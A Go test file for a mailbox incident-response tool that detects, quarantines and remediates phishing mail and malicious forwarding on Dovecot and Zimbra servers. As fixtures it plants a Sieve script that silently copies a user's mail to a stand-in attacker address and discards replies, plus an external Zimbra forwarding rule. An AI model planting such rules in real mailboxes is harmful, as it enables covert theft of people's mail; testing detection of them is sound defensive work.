package imapbox_test

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"vigie.dev/vigie/internal/mailbox"
	"vigie.dev/vigie/internal/mailbox/imapbox"
	"vigie.dev/vigie/internal/mailbox/mailboxtest"
	"vigie.dev/vigie/internal/mailbox/managesieve"
	"vigie.dev/vigie/internal/mailbox/zimbra"
	"vigie.dev/vigie/internal/postfixtest"
)

func msg(id, from, to, subject, body string) []byte {
	return []byte(fmt.Sprintf("From: %s\r\nTo: %s\r\nSubject: %s\r\nMessage-ID: %s\r\nDate: %s\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n%s\r\n",
		from, to, subject, id, time.Now().UTC().Format(time.RFC1123Z), body))
}

func connector(t *testing.T, d *mailboxtest.Dovecot, login, pass string) *imapbox.Connector {
	t.Helper()
	c, err := imapbox.New(imapbox.Config{Addr: d.IMAPAddr(), TLS: "none", Admin: login, Password: pass,
		SieveAddr: d.SieveAddr(), UsersFile: d.UsersFile(), Timeout: 20 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// One Dovecot, fed by Postfix: search by Message-ID, fetch, move into a
// new folder and back, read and disable a planted Sieve redirect, and the
// errors of a bad login, a missing mailbox and a dead server.
func TestAgainstDovecot(t *testing.T) {
	postfixtest.Require(t)
	alice, bob := "alice@chu-exemple.test", "bob@chu-exemple.test"
	d := mailboxtest.Start(t, alice, bob)
	smtpAddr := d.Postfix(t, "chu-exemple.test")
	d.DeliverVia(t, smtpAddr, "x@partenaire.test", []string{alice, bob}, "<camp-1@evil.example>",
		msg("<camp-1@evil.example>", "Service RH <rh@evil.example>", alice, "Votre bulletin", "Cliquez http://evil.example/paie"))
	d.DeliverVia(t, smtpAddr, "y@partenaire.test", []string{alice}, "<ok-1@partenaire.test>",
		msg("<ok-1@partenaire.test>", "Partenaire <y@partenaire.test>", alice, "Réunion", "À jeudi."))
	ctx := context.Background()
	c := connector(t, d, mailboxtest.Admin, mailboxtest.AdminPass)

	s, err := c.Open(ctx, alice)
	if err != nil {
		t.Fatal(err)
	}
	defer s.Close()
	folders, err := s.Folders(ctx)
	if err != nil {
		t.Fatal(err)
	}
	roles := map[mailbox.Role]string{}
	for _, f := range folders {
		roles[f.Role] = f.Name
	}
	for _, r := range []mailbox.Role{mailbox.Inbox, mailbox.Sent, mailbox.Drafts, mailbox.Trash, mailbox.Junk, mailbox.Templates} {
		if roles[r] == "" {
			t.Errorf("no %s folder in %+v", r, folders)
		}
	}
	found, err := s.Search(ctx, "INBOX", mailbox.Query{MessageID: "<camp-1@evil.example>"})
	if err != nil || len(found) != 1 {
		t.Fatalf("search: %v %+v", err, found)
	}
	if found[0].MessageID != "camp-1@evil.example" || found[0].From != "rh@evil.example" || found[0].Subject != "Votre bulletin" {
		t.Errorf("summary %+v", found[0])
	}
	raw, err := s.Fetch(ctx, found[0].Ref, 1<<20)
	if err != nil || !strings.Contains(string(raw), "evil.example/paie") {
		t.Fatalf("fetch: %v %q", err, raw)
	}
	if _, err := s.Fetch(ctx, found[0].Ref, 10); !errors.Is(err, mailbox.ErrTooLarge) {
		t.Errorf("fetch over the limit: %v", err)
	}
	before := d.Snapshot(t, alice)
	moved, err := s.Move(ctx, []mailbox.Ref{found[0].Ref}, "Quarantaine Vigie")
	if err != nil || len(moved) != 1 {
		t.Fatalf("move: %v %v", err, moved)
	}
	after := d.Snapshot(t, alice)
	sum := mailboxtest.SHA256(raw)
	if slices.Contains(after["INBOX"], sum) || !slices.Equal(after["Quarantaine Vigie"], []string{sum}) {
		t.Errorf("after the move: %v", after)
	}
	if len(after["INBOX"]) != len(before["INBOX"])-1 {
		t.Errorf("INBOX %d → %d messages", len(before["INBOX"]), len(after["INBOX"]))
	}
	if again, _ := s.Search(ctx, "INBOX", mailbox.Query{MessageID: "camp-1@evil.example"}); len(again) != 0 {
		t.Errorf("still in INBOX: %+v", again)
	}
	if _, err := s.Move(ctx, moved, "INBOX"); err != nil {
		t.Fatal(err)
	}
	if back := d.Snapshot(t, alice); !slices.Equal(back["INBOX"], before["INBOX"]) || len(back["Quarantaine Vigie"]) != 0 {
		t.Errorf("not restored: %v", back)
	}

	// An attacker's script, stored with the user's own password as a
	// webmail would.
	ms, err := managesieve.Dial(ctx, d.SieveAddr(), managesieve.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if err := ms.AuthenticatePlain("", alice, mailboxtest.UserPass); err != nil {
		t.Fatal(err)
	}
	script := "require [\"copy\"];\r\nredirect :copy \"relais@evil.example\";\r\nif header :contains \"subject\" \"RE:\" { discard; stop; }\r\n"
	if err := ms.PutScript("roundcube", script); err != nil {
		t.Fatal(err)
	}
	if err := ms.SetActive("roundcube"); err != nil {
		t.Fatal(err)
	}
	ms.Logout()
	rules, err := s.Rules(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(rules) != 2 || rules[0].ID != "sieve:roundcube#1" || !slices.Equal(rules[0].Targets, []string{"relais@evil.example"}) ||
		!rules[0].Enabled || rules[1].Effects[0] != "delete" {
		t.Fatalf("rules %+v", rules)
	}
	said, err := s.Disable(ctx, rules[0])
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Disable(ctx, rules[1]); err != nil {
		t.Fatalf("second rule of the same script: %v", err)
	}
	t.Log(said)
	rules, err = s.Rules(ctx)
	if err != nil {
		t.Fatal(err)
	}
	enabled := 0
	for _, r := range rules {
		if r.Enabled {
			enabled++
		}
	}
	if enabled != 0 || len(rules) != 4 {
		t.Errorf("after disabling: %+v", rules)
	}
	// Mail for alice still arrives (the copy compiles and runs).
	d.DeliverVia(t, smtpAddr, "z@partenaire.test", []string{alice}, "<after-fix@partenaire.test>",
		msg("<after-fix@partenaire.test>", "z@partenaire.test", alice, "RE: facture", "ok"))
	if n := d.Snapshot(t, alice)["INBOX"]; len(n) != len(before["INBOX"])+1 {
		t.Errorf("the reply was not kept in INBOX: %d messages", len(n))
	}

	// The same over TLS: implicit (993) and STARTTLS, ManageSieve too.
	for name, cfg := range map[string]imapbox.Config{
		"implicit": {Addr: d.IMAPSAddr(), TLS: "implicit", SieveAddr: d.SieveAddr()},
		"starttls": {Addr: d.IMAPAddr(), TLS: "starttls", SieveAddr: d.SieveAddr(), SieveTLS: "starttls"},
		// Dovecot's "user*master" login, for IMAP and ManageSieve alike.
		"separator": {Addr: d.IMAPSAddr(), TLS: "implicit", SieveAddr: d.SieveAddr(), SieveTLS: "starttls", Login: imapbox.LoginSeparator},
	} {
		cfg.Admin, cfg.Password, cfg.TLSConfig, cfg.Timeout = mailboxtest.Admin, mailboxtest.AdminPass, d.TLSConfig(), 20*time.Second
		tc, err := imapbox.New(cfg)
		if err != nil {
			t.Fatal(err)
		}
		ts, err := tc.Open(ctx, alice)
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if found, err := ts.Search(ctx, "INBOX", mailbox.Query{MessageID: "camp-1@evil.example"}); err != nil || len(found) != 1 {
			t.Errorf("%s: search %v %v", name, found, err)
		}
		if rules, err := ts.Rules(ctx); err != nil || len(rules) != 4 {
			t.Errorf("%s: rules over TLS: %v %d", name, err, len(rules))
		}
		ts.Close()
	}
	// A certificate the client does not trust is refused.
	untrusted, _ := imapbox.New(imapbox.Config{Addr: d.IMAPSAddr(), TLS: "implicit", Admin: mailboxtest.Admin, Password: mailboxtest.AdminPass,
		TLSConfig: &tls.Config{ServerName: "localhost"}, Timeout: 20 * time.Second})
	if _, err := untrusted.Open(ctx, alice); !errors.Is(err, mailbox.ErrUnreachable) {
		t.Errorf("untrusted certificate: %v", err)
	}

	users, err := c.Users(ctx)
	if err != nil || !slices.Equal(users, []string{alice, bob}) {
		t.Errorf("users %v %v", users, err)
	}
	if _, err := connector(t, d, mailboxtest.Admin, "faux").Open(ctx, bob); !errors.Is(err, mailbox.ErrCredentials) {
		t.Errorf("wrong password: %v", err)
	}
	if _, err := c.Open(ctx, "nobody@chu-exemple.test"); !errors.Is(err, mailbox.ErrNoMailbox) {
		t.Errorf("unknown mailbox: %v", err)
	}
	dead, _ := imapbox.New(imapbox.Config{Addr: fmt.Sprintf("127.0.0.1:%d", postfixtest.FreePort(t)), TLS: "none",
		Admin: "a", Password: "b", Timeout: 5 * time.Second})
	if _, err := dead.Open(ctx, bob); !errors.Is(err, mailbox.ErrUnreachable) {
		t.Errorf("dead server: %v", err)
	}
}

// A Zimbra-like server: mail and Sieve over IMAP and ManageSieve (a real
// Dovecot), the account's forwarding over the admin SOAP API (an
// in-process stand-in). The audit reads both; --fix leaves the Zimbra
// forwarding in place, says why and keeps its definition.
func TestZimbraForwardingSource(t *testing.T) {
	alice := "alice@chu-exemple.test"
	d := mailboxtest.Start(t, alice)
	z := mailboxtest.StartZimbra(t, "admin@chu-exemple.test", "zs3cret")
	z.SetAccount(alice, map[string][]string{zimbra.AttrPrefForward: {"relais@evil.example"}, zimbra.AttrLocalDisabled: {"TRUE"}})
	zc, err := zimbra.New(zimbra.Config{URL: z.URL, Admin: "admin@chu-exemple.test", Password: "zs3cret"})
	if err != nil {
		t.Fatal(err)
	}
	c, err := imapbox.New(imapbox.Config{Addr: d.IMAPAddr(), TLS: "none", Admin: mailboxtest.Admin, Password: mailboxtest.AdminPass,
		SieveAddr: d.SieveAddr(), Forwards: zc, Timeout: 20 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	jr, ledger := &mailboxtest.Journal{}, &mailboxtest.Ledger{}
	kept := 0
	r := &mailbox.Remediator{Connector: c, Journal: jr, Ledger: ledger}
	res := r.Audit(ctx, mailbox.AuditRequest{Incident: 4, Mailboxes: []string{alice}, OwnDomains: []string{"chu-exemple.test"},
		Fix: []string{"zimbra:" + zimbra.AttrPrefForward}, By: "rssi",
		Keep: func(context.Context, string, []byte) (string, error) { kept++; return "ab12", nil }})
	if res[0].Err != "" || len(res[0].Findings) != 1 || res[0].Findings[0].Signal != mailbox.SigForwardExternal {
		t.Fatalf("audit %+v", res[0])
	}
	if len(res[0].Fixed) != 1 || !strings.Contains(res[0].Fixed[0], "laissé en place") || kept != 1 {
		t.Errorf("fix %q, kept %d", res[0].Fixed, kept)
	}
	if texts := jr.Texts(); len(texts) != 1 || !strings.Contains(texts[0], "zimbraPrefMailForwardingAddress: relais@evil.example") {
		t.Errorf("journal %q", texts)
	}
	// The admin API down: the mailbox is reported as not read, not as
	// forwarding nothing.
	down, _ := zimbra.New(zimbra.Config{URL: "http://127.0.0.1:1/service/admin/soap", Admin: "a", Password: "b"})
	c2, _ := imapbox.New(imapbox.Config{Addr: d.IMAPAddr(), TLS: "none", Admin: mailboxtest.Admin, Password: mailboxtest.AdminPass,
		SieveAddr: d.SieveAddr(), Forwards: down, Timeout: 20 * time.Second})
	res = (&mailbox.Remediator{Connector: c2}).Audit(ctx, mailbox.AuditRequest{Mailboxes: []string{alice}})
	if !strings.Contains(res[0].Err, "unreachable") {
		t.Errorf("admin API down: %+v", res[0])
	}
}
